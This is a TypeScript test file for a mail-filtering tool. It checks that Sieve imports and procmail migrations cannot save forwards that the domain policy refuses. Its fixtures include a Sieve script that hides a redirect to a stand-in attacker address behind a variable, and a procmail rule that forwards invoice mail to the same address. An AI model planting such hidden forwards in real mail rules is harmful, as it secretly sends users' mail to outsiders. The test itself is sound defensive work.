// The importers save through the same policy check as the editor: a Sieve
// import hiding a forward in verbatim Sieve is refused when the user saves
// it, and `migrate procmail --deploy` does not store a converted forward the
// policy refuses.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { DEFAULT_POLICY } from '../../grammar/policy.js';
import { run as migrate } from '../../server/cli/migrate.js';
import { openDatabase } from '../../server/store/db.js';
import { DefaultsRepository } from '../../server/store/defaults-repository.js';
import { RulesRepository } from '../../server/store/rules-repository.js';
import type { FastifyInstance } from 'fastify';
import { capture } from '../support/capture.js';
import { ADMIN, addUser, Client, startApp } from './app/harness.js';

const REFUSE = { ...DEFAULT_POLICY, allowedRedirectDomains: ['corp.example'], redirectOutside: 'refuse' as const };

let app: FastifyInstance;

beforeAll(async () => {
  ({ app } = await startApp({ worker: false }));
  await addUser(app, ADMIN, 'root-pw');
  await addUser(app, 'ivy', 'ivy-pw');
});

afterAll(async () => {
  await app.close();
});

test('a Sieve import with a forward behind a variable is refused when saved under refuse', async () => {
  const admin = await Client.login(app, ADMIN, 'root-pw');
  const ivy = await Client.login(app, 'ivy', 'ivy-pw');
  expect((await admin.put('/api/admin/policy', REFUSE)).statusCode).toBe(200);
  const script = 'require ["variables", "fileinto"];\nif header :contains "subject" "x" {\n  fileinto "X";\n}\nset "a" "x@evil.example";\nif true {\n  redirect "${a}";\n}\n';
  const imported = await ivy.post('/api/import/sieve', { text: script });
  expect(imported.statusCode).toBe(200);
  const res = await ivy.put('/api/rules', { ruleSet: imported.json().ruleSet });
  expect(res.statusCode).toBe(422);
  expect(res.json().error.code).toBe('policy_violation');
  expect(res.json().error.message).toContain('forwarding to "${a}" is not allowed: it is built from variables');
  expect(app.ctx.rules.latest('ivy')).toBeUndefined();
});

test('migrate procmail --deploy does not store a forward the policy refuses', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'sw-policy-migrate-'));
  const data = join(dir, 'data');
  const db = openDatabase(join(data, 'sievewright.db'));
  new DefaultsRepository(db).setPolicy(REFUSE);
  db.close();
  writeFileSync(join(dir, 'zoe.procmailrc'), ':0\n* ^Subject:.*invoice\n! x@evil.example\n');
  process.env.SIEVEWRIGHT_SERVER__DATA_DIR = data;
  let r;
  try {
    r = await capture(() => migrate(['procmail', join(dir, 'zoe.procmailrc'), '--out', join(dir, 'out'), '--deploy']));
  } finally {
    delete process.env.SIEVEWRIGHT_SERVER__DATA_DIR;
  }
  expect(r.code).toBe(1);
  expect(r.out).toContain('not saved for user zoe');
  expect(r.out).toContain('forwarding to x@evil.example is not allowed (allowed domains: corp.example)');
  const check = openDatabase(join(data, 'sievewright.db'));
  try {
    expect(new RulesRepository(check).latest('zoe')).toBeUndefined();
  } finally {
    check.close();
  }
});
